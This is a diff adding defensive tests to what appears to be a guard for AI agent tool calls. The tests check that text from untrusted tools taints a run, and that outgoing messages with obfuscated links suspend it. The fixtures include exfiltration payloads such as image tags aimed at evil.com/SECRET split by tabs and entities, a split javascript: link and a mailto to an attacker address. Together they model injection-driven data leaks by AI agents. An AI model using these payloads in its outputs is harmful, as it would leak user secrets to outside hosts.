@@ -338,3 +338,48 @@ async def test_what_lists_no_tool_is_read_too(has_listing: bool) -> None:
     outcome = await Pipeline([send, Today()]).run(SEND, run_of())
 
     assert outcome.kind == ("suspended" if has_listing else "completed")
+
+
+async def test_the_result_of_a_tool_whose_labels_raise_is_a_strangers(caplog: pytest.LogCaptureFixture) -> None:
+    @ez_tool(effect="none", source=lambda arguments, result: result[0]["trust"])
+    async def look() -> Any:
+        """Return what a stranger wrote."""
+        return [{"subject": EVIL}]
+
+    run = run_of()
+
+    read = await Pipeline([look]).run(ToolCall("look"), run)
+
+    assert (read.kind, await kind_of(run)) == ("completed", "suspended")
+    assert "the labels of `look` raised" in caplog.text
+
+
+BROKEN_LINKS = (
+    "<img src='/&#9;/evil&#9;.&#9;com/SECRET'>",
+    '<a href="java&#x0A;script&NewLine;:alert">so</a>',
+    "<img src='/\t/evil\t.\tcom/SECRET'>",
+    '<a href="mail\tto\r\n:eve\t@evil.com">so</a>',
+    "see &Tab;//&#010;evil.com",
+)
+"""Links as browsers read them, which leave out tabs and ends of lines."""
+
+
+@pytest.mark.parametrize("text", BROKEN_LINKS)
+async def test_a_link_that_is_parted_by_tabs_and_ends_of_lines_is_a_link(text: str) -> None:
+    run = run_of("Send a line to bob@corp.com.")
+    await Pipeline([page]).run(ToolCall("page"), run)
+
+    sent = await Pipeline([send]).run(ToolCall("send", {"to": "bob@corp.com", "text": text}), run)
+
+    assert sent.kind == "suspended"
+
+
+async def test_lines_and_cells_of_a_text_are_no_link() -> None:
+    run = run_of("Send a line to bob@corp.com.")
+    await Pipeline([page]).run(ToolCall("page"), run)
+
+    sent = await Pipeline([send]).run(
+        ToolCall("send", {"to": "bob@corp.com", "text": "A line.\nNext one.\tA cell"}), run
+    )
+
+    assert sent.kind == "completed"
